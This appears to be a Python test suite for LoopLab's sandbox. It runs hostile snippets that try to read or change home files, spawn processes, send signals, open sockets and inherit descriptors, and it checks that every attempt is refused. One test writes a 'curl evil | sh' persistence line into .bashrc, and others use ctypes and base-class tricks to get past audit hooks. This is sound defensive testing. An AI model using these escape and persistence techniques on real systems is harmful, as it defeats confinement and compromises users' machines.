"""Hostile programs against the confined worker (issue 16, docs/security.md).

Each program tries one way out of the worker: the user's files (in a temporary HOME made for
the test), programs, processes, the network (a server on 127.0.0.1 that records what reaches
it), signals, inherited files and the environment. Each must end with LoopLab's plain sentence
and exit status 1 (an uncaught PermissionError), and what it went for must be untouched:
checked after the run, not assumed. Usage: python3 test_confinement.py PATH/TO/looplab
"""

import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
import unittest

LOOPLAB = None

NO_FILES = "LoopLab runs programs without access to your files"
NO_SYSTEM = "LoopLab runs programs without access to your system"
NO_NETWORK = "LoopLab runs programs without access to your network"
NO_PROCESSES = "LoopLab runs programs without access to your processes"


def kernel_confines():
    """Whether this machine confines runs (Landlock and seccomp); the tests say so if not."""
    done = subprocess.run([LOOPLAB, "run", os.devnull], capture_output=True, text=True,
                          timeout=60)
    return "not confined" not in done.stderr


class RecordingServer:
    """A TCP server on 127.0.0.1 that remembers every connection and every byte."""

    def __init__(self):
        self.listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.listener.settimeout(0.2)
        self.port = self.listener.getsockname()[1]
        self.connections = 0
        self.received = b""
        self.running = True
        self.thread = threading.Thread(target=self.serve, daemon=True)
        self.thread.start()

    def serve(self):
        while self.running:
            try:
                conn, _ = self.listener.accept()
            except (socket.timeout, OSError):
                continue
            self.connections += 1
            conn.settimeout(1)
            try:
                while data := conn.recv(4096):
                    self.received += data
            except OSError:
                pass
            conn.close()

    def close(self):
        self.running = False
        self.thread.join()
        self.listener.close()


class HostilePrograms(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.confined = kernel_confines()

    def setUp(self):
        if not self.confined:
            self.skipTest("this kernel cannot confine runs (no Landlock or seccomp)")
        self.home = tempfile.mkdtemp(prefix="looplab-home-")
        self.programs = tempfile.mkdtemp(prefix="looplab-programs-")
        self.secret = os.path.join(self.home, "secret.txt")
        self.bashrc = os.path.join(self.home, ".bashrc")
        with open(self.secret, "w") as f:
            f.write("s3cret-value\n")
        with open(self.bashrc, "w") as f:
            f.write("# the user's own\n")

    def tearDown(self):
        shutil.rmtree(self.home, ignore_errors=True)
        shutil.rmtree(self.programs, ignore_errors=True)

    def run_program(self, body, env=None, **kwargs):
        flags = ["--max-seconds", "3"]
        source = "import asyncio, os, sys\nHOME = %r\n\nasync def main():\n%s\n\nasyncio.run(main())\n" % (
            self.home, textwrap.indent(textwrap.dedent(body), "    "))
        path = os.path.join(self.programs, "hostile.py")
        with open(path, "w") as f:
            f.write(source)
        environment = dict(os.environ, HOME=self.home, **(env or {}))
        done = subprocess.run([LOOPLAB, "run", path, *flags], capture_output=True, text=True,
                              timeout=120, env=environment, **kwargs)
        return done.returncode, done.stdout, done.stderr

    def refused(self, body, sentence, **kwargs):
        status, out, err = self.run_program(body, **kwargs)
        self.assertEqual(status, 1, f"stdout: {out}\nstderr: {err}")
        self.assertIn("PermissionError: this program tried to", err)
        self.assertIn(sentence, err)
        return out, err

    def assertHomeUntouched(self):
        self.assertEqual(sorted(os.listdir(self.home)), [".bashrc", "secret.txt"])
        with open(self.secret) as f:
            self.assertEqual(f.read(), "s3cret-value\n")
        with open(self.bashrc) as f:
            self.assertEqual(f.read(), "# the user's own\n")

    # --- the user's files -------------------------------------------------------------------

    def test_reading_a_file_in_home_is_refused(self):
        out, err = self.refused("print(open(HOME + '/secret.txt').read())", NO_FILES)
        self.assertNotIn("s3cret", out + err)
        self.assertIn(f"tried to read {self.secret}", err)

    def test_listing_home_is_refused(self):
        out, err = self.refused("print(os.listdir(HOME))", NO_FILES)
        self.assertNotIn("secret.txt", out)

    def test_writing_a_file_in_home_is_refused(self):
        self.refused("open(HOME + '/new.txt', 'w').write('x')", NO_FILES)
        self.assertHomeUntouched()

    def test_deleting_a_file_in_home_is_refused(self):
        self.refused("os.remove(HOME + '/secret.txt')", NO_FILES)
        self.assertHomeUntouched()

    def test_appending_to_bashrc_is_refused(self):
        self.refused("open(HOME + '/.bashrc', 'a').write('curl evil | sh\\n')", NO_FILES)
        self.assertHomeUntouched()

    def test_a_symbolic_link_in_the_scratch_folder_does_not_lead_out(self):
        self.refused("""
            link = os.path.join(os.environ['TMPDIR'], 'link')
            os.symlink(HOME + '/secret.txt', link)
            print(open(link).read())
        """, NO_FILES)
        self.assertHomeUntouched()

    def test_modes_owners_times_and_attributes_stay_as_they_were(self):
        # Landlock does not cover chmod, chown, utime and xattrs: the seccomp filter does, even
        # through ctypes, which gets past the audit hook.
        os.setxattr(self.secret, "user.note", b"private")
        before = os.stat(self.secret)
        status, out, err = self.run_program("""
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            secret = (HOME + '/secret.txt').encode()
            print(libc.chmod(secret, 0o777), libc.chmod(HOME.encode(), 0),
                  libc.chown(secret, 65534, 65534), libc.utimes(secret, None),
                  libc.setxattr(secret, b'user.pwn', b'x', 1, 0),
                  libc.getxattr(secret, b'user.note', ctypes.create_string_buffer(64), 64),
                  ctypes.get_errno())
            os.getxattr(HOME + '/secret.txt', 'user.note')
        """)
        self.assertEqual(status, 1, err)
        self.assertEqual(out.split(), ["-1"] * 6 + ["1"])  # each refused with EPERM
        self.assertIn("tried to read the attributes of", err)
        after = os.stat(self.secret)
        self.assertEqual((after.st_mode, after.st_uid, after.st_mtime_ns),
                         (before.st_mode, before.st_uid, before.st_mtime_ns))
        self.assertEqual(os.stat(self.home).st_mode & 0o777, 0o700)
        self.assertEqual(os.listxattr(self.secret), ["user.note"])

    # --- programs and processes -------------------------------------------------------------

    def test_posix_system_is_refused(self):
        self.refused("import posix\nposix.system('touch ' + HOME + '/pwned')", NO_SYSTEM)
        self.assertHomeUntouched()

    def test_os_execv_is_refused_even_after_reloading_os(self):
        self.refused("""
            import importlib
            fresh = importlib.reload(os)
            fresh.execv('/bin/sh', ['sh', '-c', 'touch ' + HOME + '/pwned'])
        """, NO_SYSTEM)
        self.assertHomeUntouched()

    def test_subprocess_through_the_base_class_is_refused(self):
        self.refused("""
            import subprocess
            subprocess.Popen.__mro__[1](['touch', HOME + '/pwned'])
        """, NO_SYSTEM)
        self.assertHomeUntouched()

    def test_posix_fork_then_execv_is_refused(self):
        self.refused("""
            import posix
            if posix.fork() == 0:
                posix.execv('/bin/sh', ['sh', '-c', 'touch ' + HOME + '/pwned'])
        """, NO_SYSTEM)
        time.sleep(0.5)
        self.assertHomeUntouched()

    def test_ctypes_system_is_refused(self):
        self.refused("""
            import ctypes
            ctypes.CDLL(None).system(('touch ' + HOME + '/pwned').encode())
        """, NO_SYSTEM)
        self.assertHomeUntouched()

    def test_the_kernel_refuses_a_fork_that_python_never_sees(self):
        # glibc's internal _Fork is not on the audit hook's list of names: the kernel's filter
        # alone refuses the new process, and the call returns -1 with EPERM.
        status, out, err = self.run_program("""
            import ctypes
            libc = ctypes.CDLL(None, use_errno=True)
            print('fork returned', libc['_Fork'](), ctypes.get_errno())
        """)
        self.assertEqual(status, 0, err)
        self.assertIn("fork returned -1 1", out)

    def test_a_setsid_grandchild_cannot_outlive_the_run(self):
        self.refused("""
            import posix, time
            if posix.fork() == 0:
                os.setsid()
                if posix.fork() == 0:
                    time.sleep(1)
                    open(HOME + '/late.txt', 'w').write('still here')
                os._exit(0)
        """, NO_SYSTEM)
        time.sleep(2)
        self.assertHomeUntouched()

    def test_the_time_budget_holds_for_a_program_that_ignores_sigterm_and_leaves_its_group(self):
        start = time.monotonic()
        status, out, err = self.run_program("""
            import signal, ctypes
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            libc = ctypes.CDLL(None, use_errno=True)
            print(libc.prctl(1, 0, 0, 0, 0), libc.setpgid(0, os.getpgid(os.getppid())),
                  flush=True)  # PR_SET_PDEATHSIG 0, and out of the worker's group
            r, w = os.pipe()
            os.read(r, 1)  # waits for ever, using no processor time
        """)
        self.assertLess(time.monotonic() - start, 30)
        self.assertEqual(status, 4, err)
        self.assertIn("more than 3 seconds of real time", err)

    def test_a_signal_to_another_process_is_refused(self):
        victim = subprocess.Popen(["sleep", "30"])
        try:
            self.refused(f"os.kill({victim.pid}, 9)", NO_PROCESSES)
            time.sleep(0.2)
            self.assertIsNone(victim.poll(), "the other process was killed")
        finally:
            victim.kill()
            victim.wait()

    # --- the network --------------------------------------------------------------------------

    def test_a_raw_socket_connect_reaches_nothing(self):
        server = RecordingServer()
        try:
            self.refused(f"""
                import _socket
                s = _socket.socket()
                s.connect(('127.0.0.1', {server.port}))
                s.send(b'stolen')
            """, NO_NETWORK)
            time.sleep(0.3)
        finally:
            server.close()
        self.assertEqual(server.connections, 0)
        self.assertEqual(server.received, b"")

    def test_the_socket_base_class_cannot_be_made(self):
        server = RecordingServer()
        try:
            self.refused(f"""
                import socket
                s = socket.socket.__mro__[1]()
                s.connect(('127.0.0.1', {server.port}))
            """, NO_NETWORK)
        finally:
            server.close()
        self.assertEqual(server.connections, 0)

    # --- what the worker inherits ---------------------------------------------------------------

    def test_the_environment_is_clean_and_home_is_the_scratch_folder(self):
        status, out, err = self.run_program("""
            print(sorted(os.environ))
            print(os.environ['HOME'] == os.environ['TMPDIR'], os.environ['HOME'])
            open(os.path.join(os.environ['HOME'], 'note.txt'), 'w').write('scratch is writable')
            print(open(os.path.join(os.environ['HOME'], 'note.txt')).read())
        """, env={"LOOPLAB_TEST_SECRET": "token-123"})
        self.assertEqual(status, 0, err)
        lines = out.splitlines()
        # TZ=UTC is the simulation's own (looplab_sim.vtime), for a deterministic local time.
        self.assertEqual(lines[0], "['HOME', 'LANG', 'PATH', 'TMPDIR', 'TZ']")
        self.assertNotIn("token-123", out)
        same, scratch = lines[1].split(" ", 1)
        self.assertEqual(same, "True")
        self.assertNotEqual(scratch, self.home)
        self.assertEqual(lines[2], "scratch is writable")
        self.assertFalse(os.path.exists(scratch), "the scratch folder outlived the run")

    def test_inherited_file_descriptors_are_closed(self):
        read_end, write_end = os.pipe()
        try:
            status, out, err = self.run_program(f"""
                try:
                    os.write({write_end}, b'leak')
                    print('wrote')
                except OSError as error:
                    print('closed', error.errno)
            """, pass_fds=(write_end,))
        finally:
            os.close(write_end)
        self.assertEqual(status, 0, err)
        self.assertIn("closed 9", out)  # EBADF
        self.assertEqual(os.read(read_end, 10), b"")  # nothing arrived before the end
        os.close(read_end)

    def test_the_program_still_reads_its_own_folder(self):
        with open(os.path.join(self.programs, "data.txt"), "w") as f:
            f.write("own data")
        with open(os.path.join(self.programs, "helper.py"), "w") as f:
            f.write("VALUE = 42\n")
        status, out, err = self.run_program("""
            import helper
            print(helper.VALUE, open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())
        """)
        self.assertEqual(status, 0, err)
        self.assertEqual(out.strip(), "42 own data")


class Unconfined(unittest.TestCase):
    def test_turning_confinement_off_is_said_once_and_recorded_in_the_trace(self):
        folder = tempfile.mkdtemp(prefix="looplab-unconfined-")
        try:
            program = os.path.join(folder, "p.py")
            trace = os.path.join(folder, "t.json")
            with open(program, "w") as f:
                f.write("import asyncio\nasync def main():\n    await asyncio.sleep(1)\n"
                        "asyncio.run(main())\n")
            done = subprocess.run([LOOPLAB, "run", program, "--trace", trace],
                                  capture_output=True, text=True, timeout=60,
                                  env=dict(os.environ, LOOPLAB_UNCONFINED="1"))
            self.assertEqual(done.returncode, 0, done.stderr)
            self.assertEqual(done.stderr.count("this run is not confined"), 1, done.stderr)
            self.assertIn("LOOPLAB_UNCONFINED is set", done.stderr)
            import json
            with open(trace) as f:
                header = json.load(f)
            self.assertIn("LOOPLAB_UNCONFINED is set", header["unconfined"])
            # Confined (the default), the trace carries no such field.
            done = subprocess.run([LOOPLAB, "run", program, "--trace", trace],
                                  capture_output=True, text=True, timeout=60)
            with open(trace) as f:
                header = json.load(f)
            if kernel_confines():
                self.assertNotIn("unconfined", header)
                self.assertNotIn("not confined", done.stderr)
        finally:
            shutil.rmtree(folder)


if __name__ == "__main__":
    LOOPLAB = os.path.abspath(sys.argv.pop(1))
    unittest.main(verbosity=2)
